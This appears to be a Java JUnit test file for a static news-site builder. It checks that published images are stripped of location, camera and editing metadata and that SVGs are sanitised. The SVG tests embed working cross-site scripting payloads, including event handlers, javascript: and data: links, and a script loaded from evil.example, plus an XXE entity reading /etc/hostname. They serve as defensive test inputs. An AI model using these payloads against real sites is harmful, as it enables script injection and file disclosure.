package org.briefing;

import static org.assertj.core.api.Assertions.assertThat;

import com.drew.imaging.ImageMetadataReader;
import com.drew.metadata.Directory;
import com.drew.metadata.Metadata;
import com.drew.metadata.Tag;
import com.drew.metadata.exif.ExifIFD0Directory;
import com.drew.metadata.exif.GpsDirectory;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** No published picture tells where it was taken, with which camera, or how it was edited. */
class PrivatePhotoMetadataTest {
  @TempDir
  Path dir;

  /** {@code png} with a text chunk after its header, as editing tools write them. */
  static byte[] withText(byte[] png, String keyword, String text) {
    byte[] data = (keyword + "\0" + text).getBytes(StandardCharsets.ISO_8859_1);
    ByteBuffer chunk = ByteBuffer.allocate(12 + data.length);
    chunk.putInt(data.length).put("tEXt".getBytes(StandardCharsets.US_ASCII)).put(data);
    java.util.zip.CRC32 crc = new java.util.zip.CRC32();
    crc.update(chunk.array(), 4, 4 + data.length);
    chunk.putInt((int) crc.getValue());
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(png, 0, 33); // the signature and the IHDR chunk
    out.writeBytes(chunk.array());
    out.write(png, 33, png.length - 33);
    return out.toByteArray();
  }

  /** What a published picture says that it should not: each as "file: directory: tag". */
  static List<String> privateTags(Path out) throws Exception {
    List<String> found = new ArrayList<>();
    try (Stream<Path> walk = Files.walk(out)) {
      for (Path file : walk.filter(f -> f.toString().matches(".*\\.(jpg|jpeg|png|gif|webp)$")).toList()) {
        Metadata metadata = ImageMetadataReader.readMetadata(file.toFile());
        for (Directory d : metadata.getDirectories()) {
          for (Tag tag : d.getTags()) {
            String name = d.getName() + ": " + tag.getTagName();
            boolean allowed = d.getName().matches("JPEG|JFIF|PNG-IHDR|PNG-pHYs|PNG-gAMA|PNG-sRGB|PNG-cHRM|Huffman|File Type|File|Adobe JPEG|ICC Profile")
                || (d instanceof ExifIFD0Directory && tag.getTagType() == ExifIFD0Directory.TAG_ORIENTATION);
            if (!allowed) {
              found.add(out.relativize(file) + ": " + name + " = " + tag.getDescription());
            }
          }
        }
      }
    }
    return found;
  }

  @Test
  void publishedPicturesCarryNoLocationCameraOrEditingHistory() throws Exception {
    byte[] phone = TaggedPhotos.tagged(TestImages.jpeg(900, 600, 1), TaggedPhotos.Tags.phone(6));
    byte[] agency = TaggedPhotos.tagged(TestImages.jpeg(1200, 800, 2), TaggedPhotos.Tags.agency("Agency/Mari Tamm", "Ferries wait."));
    TestSite site = TestSite.of(dir, Fixtures.CONFIG + Fixtures.SOURCES
        + ResponsivePhotosTest.story("agency", "/images/agency.jpg", "")
        + ResponsivePhotosTest.story("phone", "phone.jpg", "").replace("The ferry left", "![The quay](/images/inline.jpg 'Photo: Jane Doe/Agency') The ferry left"))
        .writeBytes("static/images/agency.jpg", agency)
        .writeBytes("content/stories/phone.jpg", phone)
        .writeBytes("static/images/inline.jpg", phone)
        .writeBytes("static/images/logo.png", withText(TestImages.encode(TestImages.picture(40, 40, 3, false), "png"), "Comment",
            "taken at 59.4370 N, 24.7536 E"))
        .build();
    // the originals do carry all of it
    Metadata original = ImageMetadataReader.readMetadata(dir.resolve("static/images/inline.jpg").toFile());
    assertThat(original.getFirstDirectoryOfType(GpsDirectory.class)).isNotNull();
    assertThat(privateTags(dir.resolve("static"))).anyMatch(t -> t.contains("GPS")).anyMatch(t -> t.contains("Body Serial Number"))
        .anyMatch(t -> t.contains("Comment")).anyMatch(t -> t.contains("XMP"));

    List<String> published = new ArrayList<>();
    try (Stream<Path> walk = Files.walk(site.out())) {
      walk.filter(f -> f.toString().matches(".*\\.(jpg|png)$")).forEach(f -> published.add(site.out().relativize(f).toString()));
    }
    assertThat(published).contains("images/agency.jpg", "images/agency-card.jpg", "2021/10/18/story-phone/phone-480w.jpg",
        "images/inline.jpg", "images/logo.png");
    assertThat(privateTags(site.out())).isEmpty();
    // a picture published as it is keeps its orientation, and so is still shown upright
    Metadata inline = ImageMetadataReader.readMetadata(site.out().resolve("images/inline.jpg").toFile());
    assertThat(inline.getFirstDirectoryOfType(ExifIFD0Directory.class).getInt(ExifIFD0Directory.TAG_ORIENTATION)).isEqualTo(6);
    assertThat(javax.imageio.ImageIO.read(site.out().resolve("images/inline.jpg").toFile()).getWidth()).isEqualTo(900);
  }
  /** A site whose story links the pictures of {@code static/images/} given, in its text. */
  private TestSite siteShowing(String... names) {
    StringBuilder text = new StringBuilder();
    for (String name : names) {
      text.append("![A picture](/images/").append(name).append(" 'Graphic: Jane Doe/Agency') ");
    }
    return TestSite.of(dir, Fixtures.CONFIG + Fixtures.SOURCES
        + ResponsivePhotosTest.story("pictures", "/images/lead.jpg", "").replace("The ferry left", text + "The ferry left"))
        .writeBytes("static/images/lead.jpg", TestImages.jpeg(600, 400, 9));
  }

  private static byte[] concat(byte[]... parts) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    for (byte[] part : parts) {
      out.writeBytes(part);
    }
    return out.toByteArray();
  }

  private static byte[] jpegSegment(int marker, byte[] data) {
    return concat(new byte[] {(byte) 0xFF, (byte) marker, (byte) ((data.length + 2) >> 8), (byte) (data.length + 2)}, data);
  }

  /**
   * Phones and agencies append to a JPEG's end what its decoder never reads: a motion photo's video,
   * a second picture (MPF) with EXIF and GPS of its own. The picture ends at the end-of-image marker
   * of its last scan, found by walking it: a JFIF extension's thumbnail in its header holds an
   * end-of-image marker too (and is left out: it may show the picture before it was cropped).
   */
  @Test
  void aJpegOfStaticIsPublishedWithoutWhatFollowsItsEnd() throws Exception {
    byte[] gps = TaggedPhotos.tagged(TestImages.jpeg(64, 48, 3), TaggedPhotos.Tags.phone(1));
    byte[] trailer = concat(gps, "ftypmp42 motion photo video taken at 59.4370 N".getBytes(StandardCharsets.US_ASCII));
    byte[] plain = TestImages.jpeg(300, 200, 4);
    byte[] withThumbnail = concat(java.util.Arrays.copyOf(plain, 2),
        jpegSegment(0xE0, concat("JFXX\0".getBytes(StandardCharsets.US_ASCII), new byte[] {0x10}, TestImages.jpeg(16, 16, 5))),
        java.util.Arrays.copyOfRange(plain, 2, plain.length));
    byte[] progressive = TestImages.progressiveJpeg(300, 200, 6);
    byte[] phone = TaggedPhotos.tagged(TestImages.jpeg(300, 200, 7), TaggedPhotos.Tags.phone(6));
    TestSite site = siteShowing("plain.jpg", "thumbnail.jpg", "progressive.jpg", "phone.jpg")
        .writeBytes("static/images/plain.jpg", concat(plain, trailer))
        .writeBytes("static/images/thumbnail.jpg", concat(withThumbnail, trailer))
        .writeBytes("static/images/progressive.jpg", concat(progressive, trailer))
        .writeBytes("static/images/phone.jpg", concat(phone, trailer))
        .build();

    assertThat(Files.readAllBytes(site.out().resolve("images/plain.jpg"))).isEqualTo(plain);
    assertThat(Files.readAllBytes(site.out().resolve("images/thumbnail.jpg"))).isEqualTo(plain);
    assertThat(Files.readAllBytes(site.out().resolve("images/progressive.jpg"))).isEqualTo(progressive);
    byte[] published = Files.readAllBytes(site.out().resolve("images/phone.jpg"));
    assertThat(new String(published, StandardCharsets.ISO_8859_1)).doesNotContain("motion photo").doesNotContain("GPS");
    assertThat(java.util.Arrays.equals(published, published.length - 2, published.length, new byte[] {(byte) 0xFF, (byte) 0xD9}, 0, 2))
        .isTrue();
    assertThat(privateTags(site.out())).isEmpty();
  }

  private static byte[] pngChunk(String type, byte[] data) {
    ByteBuffer chunk = ByteBuffer.allocate(12 + data.length);
    chunk.putInt(data.length).put(type.getBytes(StandardCharsets.US_ASCII)).put(data);
    java.util.zip.CRC32 crc = new java.util.zip.CRC32();
    crc.update(chunk.array(), 4, 4 + data.length);
    chunk.putInt((int) crc.getValue());
    return chunk.array();
  }

  /** The chunks of {@code png} up to its IEND, each as its type (and an iCCP's name), checking every CRC and that nothing follows. */
  private static List<String> chunks(byte[] png) {
    List<String> found = new ArrayList<>();
    ByteBuffer in = ByteBuffer.wrap(png, 8, png.length - 8);
    while (in.remaining() >= 12) {
      int length = in.getInt();
      byte[] typeAndData = new byte[4 + length];
      in.get(typeAndData);
      java.util.zip.CRC32 crc = new java.util.zip.CRC32();
      crc.update(typeAndData);
      assertThat(in.getInt()).isEqualTo((int) crc.getValue());
      String type = new String(typeAndData, 0, 4, StandardCharsets.ISO_8859_1);
      found.add(type.equals("iCCP") ? type + " " + new String(typeAndData, 4, length, StandardCharsets.ISO_8859_1).split("\0")[0] : type);
      if (type.equals("IEND")) {
        break;
      }
    }
    assertThat(in.remaining()).isZero();
    return found;
  }

  /**
   * Editing tools keep their own chunks in a PNG (Adobe's mkBF, C2PA's caBX, any private one), a
   * suggested palette is named, and so is the colour profile (often after the file it came from).
   * Only the chunks a viewer needs to show the picture are published, the profile under a fixed name.
   */
  @Test
  void aPngOfStaticKeepsOnlyTheChunksThatShowItAndItsProfileIsRenamed() throws Exception {
    byte[] png = TestImages.encode(TestImages.picture(40, 30, 8, true), "png");
    List<String> before = chunks(png);
    assertThat(before).containsExactly("IHDR", "IDAT", "IEND");
    java.util.zip.Deflater deflater = new java.util.zip.Deflater();
    deflater.setInput(java.awt.color.ICC_Profile.getInstance(java.awt.color.ColorSpace.CS_sRGB).getData());
    deflater.finish();
    byte[] profile = new byte[1 << 16];
    profile = java.util.Arrays.copyOf(profile, deflater.deflate(profile));
    byte[] edited = concat(java.util.Arrays.copyOf(png, 33),
        pngChunk("iCCP", concat("Ana's proof for legal.icc\0\0".getBytes(StandardCharsets.ISO_8859_1), profile)),
        pngChunk("pHYs", new byte[] {0, 0, 0x0B, 0x13, 0, 0, 0x0B, 0x13, 1}),
        pngChunk("mkBF", "layers of /Users/ana/secret.psd".getBytes(StandardCharsets.ISO_8859_1)),
        pngChunk("caBX", "c2pa manifest ana@example.com".getBytes(StandardCharsets.ISO_8859_1)),
        pngChunk("prVt", "private note".getBytes(StandardCharsets.ISO_8859_1)),
        pngChunk("sPLT", concat("Ana's palette\0".getBytes(StandardCharsets.ISO_8859_1), new byte[] {8, 0, 0, 0, 0, 0, 1})),
        java.util.Arrays.copyOfRange(png, 33, png.length), "after the end".getBytes(StandardCharsets.ISO_8859_1));
    TestSite site = siteShowing("chart.png").writeBytes("static/images/chart.png", edited).build();

    byte[] published = Files.readAllBytes(site.out().resolve("images/chart.png"));
    assertThat(chunks(published)).containsExactly("IHDR", "iCCP ICC profile", "pHYs", "IDAT", "IEND");
    assertThat(new String(published, StandardCharsets.ISO_8859_1)).doesNotContain("Ana").doesNotContain("after the end");
    java.awt.image.BufferedImage shown = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(published));
    java.awt.image.BufferedImage original = javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(png));
    assertThat(shown.getRGB(0, 0, 40, 30, null, 0, 40)).isEqualTo(original.getRGB(0, 0, 40, 30, null, 0, 40));
  }
  private static byte[] gifExtension(int label, String... subBlocks) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.write(0x21);
    out.write(label);
    for (String block : subBlocks) {
      out.write(block.length());
      out.writeBytes(block.getBytes(StandardCharsets.ISO_8859_1));
    }
    out.write(0);
    return out.toByteArray();
  }

  /**
   * A GIF's comment blocks hold what its maker wrote, and applications keep their data in it (XMP);
   * neither is drawn. Only the loop count of an animation is kept of the applications' blocks.
   */
  @Test
  void aGifOfStaticIsPublishedWithoutItsCommentsAndApplicationsData() throws Exception {
    byte[] gif = TestImages.encode(TestImages.picture(20, 10, 2, false), "gif");
    int header = 13 + ((gif[10] & 0x80) != 0 ? 3 << ((gif[10] & 7) + 1) : 0);
    byte[] loop = gifExtension(0xFF, "NETSCAPE2.0", "\1\0\0");
    byte[] shown = concat(java.util.Arrays.copyOf(gif, header), loop, java.util.Arrays.copyOfRange(gif, header, gif.length));
    byte[] edited = concat(java.util.Arrays.copyOf(gif, header), gifExtension(0xFE, "check with legal before use"), loop,
        gifExtension(0xFF, "XMP DataXMP", "<x:xmpmeta>made by ana on her laptop</x:xmpmeta>"),
        java.util.Arrays.copyOfRange(gif, header, gif.length - 1), gifExtension(0xFE, "second note"), new byte[] {0x3B},
        "after the end".getBytes(StandardCharsets.ISO_8859_1));
    TestSite site = siteShowing("chart.gif").writeBytes("static/images/chart.gif", edited).build();

    assertThat(Files.readAllBytes(site.out().resolve("images/chart.gif"))).isEqualTo(shown);
  }

  /** Where the second start-of-scan marker of {@code jpeg} is: in entropy-coded data an FF byte is followed by 00 or a restart marker. */
  private static int secondScan(byte[] jpeg) {
    int found = 0;
    for (int i = 2; i + 1 < jpeg.length; i++) {
      if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xDA && ++found == 2) {
        return i;
      }
    }
    throw new AssertionError("a JPEG of one scan");
  }

  /**
   * A comment or an application's segment may stand after a scan, before the next or before the end
   * of the picture, where no decoder needs it: it goes as it does before the first scan, and the
   * tables between the scans of a progressive JPEG stay.
   */
  @Test
  void aJpegOfStaticLosesTheCommentsAndApplicationsDataBetweenItsScans() throws Exception {
    byte[] plain = TestImages.jpeg(300, 200, 4);
    byte[] progressive = TestImages.progressiveJpeg(300, 200, 6);
    byte[] note = jpegSegment(0xFE, "location 59.4370 N, see legal".getBytes(StandardCharsets.ISO_8859_1));
    byte[] xmp = jpegSegment(0xE1, "http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>ana's laptop</x:xmpmeta>".getBytes(StandardCharsets.ISO_8859_1));
    int second = secondScan(progressive);
    byte[] between = concat(java.util.Arrays.copyOf(progressive, second), note, xmp,
        java.util.Arrays.copyOfRange(progressive, second, progressive.length - 2), note, new byte[] {(byte) 0xFF, (byte) 0xD9});
    TestSite site = siteShowing("plain.jpg", "progressive.jpg")
        .writeBytes("static/images/plain.jpg", concat(java.util.Arrays.copyOf(plain, plain.length - 2), xmp, note,
            new byte[] {(byte) 0xFF, (byte) 0xD9}))
        .writeBytes("static/images/progressive.jpg", between)
        .build();

    assertThat(Files.readAllBytes(site.out().resolve("images/plain.jpg"))).isEqualTo(plain);
    assertThat(Files.readAllBytes(site.out().resolve("images/progressive.jpg"))).isEqualTo(progressive);
  }

  /**
   * A GIF cut short has no trailer, yet browsers show what it holds up to the cut: its comments and
   * applications' data are taken out as well, up to where it can be read, and a block cut short is
   * left out when it is one of them.
   */
  @Test
  void aGifCutShortIsPublishedWithoutItsCommentsAndApplicationsDataUpToTheCut() throws Exception {
    byte[] gif = TestImages.encode(TestImages.picture(20, 10, 2, false), "gif");
    int header = 13 + ((gif[10] & 0x80) != 0 ? 3 << ((gif[10] & 7) + 1) : 0);
    byte[] frames = java.util.Arrays.copyOfRange(gif, header, gif.length - 1);
    byte[] comment = gifExtension(0xFE, "check with legal before use");
    byte[] cutInFrames = concat(java.util.Arrays.copyOf(gif, header), comment, java.util.Arrays.copyOf(frames, frames.length - 3));
    byte[] cutInComment = concat(java.util.Arrays.copyOf(gif, header), frames, java.util.Arrays.copyOf(comment, comment.length - 4));
    TestSite site = siteShowing("cut-in-frames.gif", "cut-in-comment.gif")
        .writeBytes("static/images/cut-in-frames.gif", cutInFrames)
        .writeBytes("static/images/cut-in-comment.gif", cutInComment)
        .build();

    assertThat(Files.readAllBytes(site.out().resolve("images/cut-in-frames.gif")))
        .isEqualTo(concat(java.util.Arrays.copyOf(gif, header), java.util.Arrays.copyOf(frames, frames.length - 3)));
    assertThat(Files.readAllBytes(site.out().resolve("images/cut-in-comment.gif"))).isEqualTo(java.util.Arrays.copyOf(gif, gif.length - 1));

    // a stray zero byte between the blocks is passed over, as decoders do: the frames and the trailer after it stay
    byte[] stray = concat(java.util.Arrays.copyOf(gif, header), comment, new byte[] {0}, frames, new byte[] {0x3B});
    TestSite straySite = TestSite.of(dir.resolve("stray"), Fixtures.CONFIG + Fixtures.SOURCES).writeBytes("static/images/stray.gif", stray).build();
    assertThat(Files.readAllBytes(straySite.out().resolve("images/stray.gif"))).isEqualTo(gif);
  }

  /**
   * Drawing tools write comments, {@code <metadata>} and markup of their own into an SVG: Inkscape
   * the paths of the editor's files. An SVG is read as XML, without its DTD or any file it names, and
   * published with only what is drawn and its text for screen readers.
   */
  @Test
  void anSvgOfStaticIsPublishedWithOnlyWhatIsDrawnAndItsText() throws Exception {
    String svg = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
          <!ENTITY fill "#0a5">
        ]>
        <!-- exported from /home/ana/drafts/map-for-legal.svg -->
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
             xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
             xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
             width="20" height="10" sodipodi:docname="map-for-legal.svg" inkscape:export-filename="/home/ana/map.png">
          <title>Ferry routes</title>
          <desc>Two routes from the harbour</desc>
          <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">Ana Tamm, draft</rdf:RDF></metadata>
          <sodipodi:namedview inkscape:current-layer="layer1" pagecolor="#ffffff"/>
          <g inkscape:label="Layer 1" id="layer1"><rect width="20" height="10" fill="&fill;"/><!-- move this --></g>
          <use xlink:href="#layer1"/>
        </svg>
        """;
    TestSite site = siteShowing("map.svg").write("-- static/images/map.svg --\n" + svg).build();

    String published = Files.readString(site.out().resolve("images/map.svg"));
    assertThat(published).doesNotContain("ana").doesNotContain("legal").doesNotContain("draft").doesNotContain("inkscape")
        .doesNotContain("sodipodi").doesNotContain("<!--").doesNotContain("DOCTYPE")
        .contains("<title>Ferry routes</title>", "<desc>Two routes from the harbour</desc>",
            "<g id=\"layer1\"><rect fill=\"#0a5\" height=\"10\" width=\"20\"/></g>", "<use xlink:href=\"#layer1\"/>");
  }

  /**
   * An agency's map (an SVG story photo) with every form of active content an SVG can hold: a
   * reader who opens the picture's address (it is in the JSON-LD and the feeds) would run its
   * script on the site's own origin. It is published drawing the same shapes, with its text for
   * screen readers, and nothing that runs, nor anything loaded from another site.
   */
  @Test
  void anSvgStoryPhotoIsPublishedWithoutScriptsHandlersOrOutsideReferences() throws Exception {
    String svg = """
        <?xml-stylesheet type="text/xsl" href="https://tracker.example/turn-into-html.xsl"?>
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1200" height="800"
             onload="alert(document.domain)" ONMOUSEOVER="steal()">
          <title>Troop positions</title>
          <desc>Three columns north of the border</desc>
          <style>@import url("https://fonts.example/evil.css"); .land { fill: url(#sea); } .x { background: url(https://tracker.example/px.gif) }</style>
          <defs><linearGradient id="sea"><stop offset="0" stop-color="#05a"/></linearGradient></defs>
          <script>alert(1)</script>
          <script type="text/ecmascript" xlink:href="https://evil.example/x.js"/>
          <a xlink:href="javascript:alert(2)"><rect id="north" width="100" height="100" class="land"/></a>
          <a href=" JaVaScRiPt&#x3A;alert(3)"><circle r="5"/></a>
          <a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;"><circle r="6"/></a>
          <a href="https://example.org/report"><text x="5" y="20" onclick="alert(5)">Read the report</text></a>
          <foreignObject width="100" height="50"><div xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(6)"/></div></foreignObject>
          <html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(7)</html:script>
          <set attributeName="href" to="javascript:alert(8)"/>
          <a><animate attributeName="xlink:href" values="#north;javascript:alert(9)" dur="1s"/><circle r="7"/></a>
          <use xlink:href="https://evil.example/sprites.svg#x"/>
          <use href="#north" x="200"/>
          <image href="https://tracker.example/pixel.png" width="1" height="1"/>
          <image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEwKTwvc2NyaXB0Pjwvc3ZnPg==" width="2" height="2"/>
          <rect width="10" height="10" fill="url(https://tracker.example/fill.svg#p)" style="fill: url('#sea'); cursor: url(https://tracker.example/c.cur), auto"/>
        </svg>
        """;
    TestSite site = TestSite.of(dir, Fixtures.CONFIG + Fixtures.SOURCES + ResponsivePhotosTest.story("map", "map.svg", ""))
        .write("-- content/stories/map.svg --\n" + svg).build();

    String published = Files.readString(site.out().resolve("2021/10/18/story-map/map.svg"));
    assertThat(published.toLowerCase(java.util.Locale.ROOT)).doesNotContain("script").doesNotContain("alert").doesNotContain("onload")
        .doesNotContain("onmouseover").doesNotContain("onclick").doesNotContain("steal").doesNotContain("foreignobject")
        .doesNotContain("iframe").doesNotContain("example/").doesNotContain("@import").doesNotContain("data:")
        .doesNotContain("xml-stylesheet");
    // the drawing and its text stay
    assertThat(published).contains("<title>Troop positions</title>", "<desc>Three columns north of the border</desc>",
        "<rect class=\"land\" height=\"100\" id=\"north\" width=\"100\"/>", "<circle r=\"5\"/>", "<circle r=\"7\"/>",
        "<a href=\"https://example.org/report\"><text x=\"5\" y=\"20\">Read the report</text></a>",
        "<use href=\"#north\" x=\"200\"/>", ".land { fill: url(#sea); }", "<stop offset=\"0\" stop-color=\"#05a\"/>",
        "style=\"fill: url('#sea');");
  }

  /**
   * What looks like active content but draws the picture stays: text that speaks of scripts, a
   * link to a web page, attributes that begin with "o", references inside the picture, a picture
   * embedded as PNG data, one of the site's own pictures.
   */
  @Test
  void anSvgsOwnLinksReferencesAndEmbeddedPicturesStay() throws Exception {
    String svg = """
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="10">
          <title>On the road: javascript: a guide</title>
          <text x="1" y="5">onload the trucks at dawn</text>
          <a href="/2021/10/18/story-map/"><rect width="5" height="5" opacity="0.5" overflow="visible" fill="url(#g)"/></a>
          <a xlink:href="mailto:desk@example.org"><circle r="2"/></a>
          <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="2" height="2"/>
          <image href="/images/base.png" width="2" height="2"/>
          <use xlink:href="#g"/>
          <animate attributeName="opacity" values="0;1" dur="2s"/>
          <set attributeName="href" to="#g"/>
        </svg>
        """;
    TestSite site = siteShowing("plain.svg").write("-- static/images/plain.svg --\n" + svg).build();
    assertThat(site.file("images/plain.svg")).isEqualTo(svg);
  }

  /** A phone's photo pasted into a drawing as base64 data loses its location and camera as a photo of its own does. */
  @Test
  void aPhotoEmbeddedInAnSvgAsDataIsPublishedWithoutItsMetadata() throws Exception {
    byte[] phone = TaggedPhotos.tagged(TestImages.jpeg(64, 48, 5), TaggedPhotos.Tags.phone(1));
    assertThat(ImageMetadataReader.readMetadata(new java.io.ByteArrayInputStream(phone)).getFirstDirectoryOfType(GpsDirectory.class)).isNotNull();
    String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"48\"><image href=\"data:image/jpeg;base64,"
        + java.util.Base64.getEncoder().encodeToString(phone) + "\" width=\"64\" height=\"48\"/></svg>\n";
    TestSite site = siteShowing("pasted.svg").write("-- static/images/pasted.svg --\n" + svg).build();
    java.util.regex.Matcher data = java.util.regex.Pattern.compile("data:image/jpeg;base64,([A-Za-z0-9+/=]+)").matcher(site.file("images/pasted.svg"));
    assertThat(data.find()).isTrue();
    byte[] published = java.util.Base64.getDecoder().decode(data.group(1));
    assertThat(ImageMetadataReader.readMetadata(new java.io.ByteArrayInputStream(published)).getFirstDirectoryOfType(GpsDirectory.class)).isNull();
    assertThat(javax.imageio.ImageIO.read(new java.io.ByteArrayInputStream(published)).getWidth()).isEqualTo(64);
  }

  /** A picture of static/ is a picture too: an agency's SVG put there loses its script as a story photo does. */
  @Test
  void anSvgOfStaticIsPublishedWithoutItsScript() throws Exception {
    TestSite site = siteShowing("map.svg").write("""
        -- static/images/map.svg --
        <svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>Map</title><script>alert(2)</script><rect width="5" height="5"/></svg>
        """).build();
    assertThat(site.file("images/map.svg")).doesNotContain("alert").contains("<title>Map</title>", "<rect height=\"5\" width=\"5\"/>");
  }

  /** An SVG whose root is an HTML element is no drawing: a browser would run the scripts in it. */
  @Test
  void anSvgWhoseRootIsNoSvgElementStopsTheBuild() throws Exception {
    TestSite html = siteShowing("map.svg").write("""
        -- static/images/map.svg --
        <svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>
        """);
    assertThat(html.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/map.svg: error: this SVG cannot be published: its root element <svg> is HTML's, not SVG's");
  }

  private static byte[] gzip(String text) throws java.io.IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gzip = new java.util.zip.GZIPOutputStream(out)) {
      gzip.write(text.getBytes(StandardCharsets.UTF_8));
    }
    byte[] bytes = out.toByteArray();
    bytes[4] = 0x5F; // a time in the header, as gzip and Inkscape write one
    return bytes;
  }

  private static String gunzip(byte[] bytes) throws java.io.IOException {
    try (java.util.zip.GZIPInputStream in = new java.util.zip.GZIPInputStream(new java.io.ByteArrayInputStream(bytes))) {
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  /**
   * Inkscape saves an SVG compressed with gzip (.svgz) with the same comments and editor's paths as
   * a plain one: it is cleaned as one and compressed again, with no time or name in its header, so
   * the same file is published as the same bytes; one with nothing to take out is published as it is.
   */
  @Test
  void aCompressedSvgOfStaticIsCleanedAsAnSvgAndCompressedAgainTheSameWay() throws Exception {
    byte[] drawn = gzip("""
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
             sodipodi:docname="/home/ana/drafts/route-for-legal.svg"><!-- from the leaked plan --><rect width="5" height="5"/></svg>
        """);
    byte[] clean = gzip("<svg xmlns=\"http://www.w3.org/2000/svg\"><title>Route</title><rect width=\"5\" height=\"5\"/></svg>\n");
    TestSite site = siteShowing("route.svgz", "plain.svgz")
        .writeBytes("static/images/route.svgz", drawn)
        .writeBytes("static/images/plain.svgz", clean)
        .build();

    byte[] published = Files.readAllBytes(site.out().resolve("images/route.svgz"));
    assertThat(gunzip(published)).doesNotContain("ana").doesNotContain("leaked").doesNotContain("sodipodi")
        .contains("<rect height=\"5\" width=\"5\"/>");
    assertThat(java.util.Arrays.copyOfRange(published, 3, 8)).as("flags and time of the gzip header").containsOnly(0);
    // a drawing with nothing to take out is compressed again too: gzip's header keeps a time (and with -N the file's name)
    byte[] plain = Files.readAllBytes(site.out().resolve("images/plain.svgz"));
    assertThat(gunzip(plain)).isEqualTo(gunzip(clean));
    assertThat(java.util.Arrays.copyOfRange(plain, 3, 8)).as("flags and time of the gzip header").containsOnly(0);
    TestSite again = TestSite.of(dir.resolve("again"), Fixtures.CONFIG + Fixtures.SOURCES)
        .writeBytes("static/images/route.svgz", drawn).build();
    assertThat(Files.readAllBytes(again.out().resolve("images/route.svgz"))).isEqualTo(published);
  }

  /** A .svgz that cannot be decompressed, or holds no well-formed XML, cannot be checked either. */
  @Test
  void aCompressedSvgThatCannotBeReadStopsTheBuild() throws Exception {
    TestSite notGzip = siteShowing("map.svgz").write("-- static/images/map.svgz --\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n");
    assertThat(notGzip.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/map.svgz: error: this SVG cannot be published: it is not compressed with gzip");
    TestSite broken = siteShowing("map.svgz").writeBytes("static/images/map.svgz", gzip("<svg xmlns=\"http://www.w3.org/2000/svg\">\n<g></svg>"));
    assertThat(broken.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/map.svgz: error: this SVG cannot be published: at line 2 once decompressed, it is not well-formed XML");
  }

  /** An SVG that cannot be read cannot be checked, and is not published unread: the build stops at its line. */
  @Test
  void anSvgOfStaticThatIsNotWellFormedOrNamesAFileStopsTheBuild() throws Exception {
    TestSite broken = siteShowing("map.svg").write("""
        -- static/images/map.svg --
        <svg xmlns="http://www.w3.org/2000/svg">
          <!-- note -- to self -->
        </svg>
        """);
    assertThat(broken.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/map.svg:2: error: this SVG cannot be published: it is not well-formed XML");
    TestSite outside = siteShowing("map.svg").write("""
        -- static/images/map.svg --
        <!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/hostname">]>
        <svg xmlns="http://www.w3.org/2000/svg"><text>&secret;</text></svg>
        """);
    assertThat(outside.buildFails()).extracting(p -> p.format(dir)).singleElement().asString()
        .startsWith("static/images/map.svg: error: this SVG cannot be published: it declares the entity 'secret', read from a file outside it");
  }

  /** An ISO base media box of {@code type} holding {@code parts}. */
  static byte[] box(String type, byte[]... parts) {
    byte[] body = concat(parts);
    return concat(ByteBuffer.allocate(8).putInt(8 + body.length).put(type.getBytes(StandardCharsets.ISO_8859_1)).array(), body);
  }

  /** A HEIF (or AVIF, by {@code brand}) whose meta box lists items of {@code itemTypes}, the first its picture. */
  static byte[] heif(String brand, String... itemTypes) {
    return heif(brand, new byte[0], itemTypes);
  }

  /**
   * A HEIF as {@link #heif(String, String...)}, but whose items after the first are placed at no bytes, at the
   * file's end, as exiftool -all= leaves the EXIF and XMP items it cannot remove.
   */
  static byte[] heifWithEmptiedItems(String brand, String... itemTypes) {
    ByteBuffer iloc = ByteBuffer.allocate(4 + 2 + 2 + (itemTypes.length - 1) * 18);
    iloc.putInt(0).put((byte) 0x44).put((byte) 0x40).putShort((short) (itemTypes.length - 1));
    for (int i = 1; i < itemTypes.length; i++) {
      iloc.putShort((short) (i + 1)).putShort((short) 0).putInt(Integer.MAX_VALUE).putShort((short) 1).putInt(0).putInt(0);
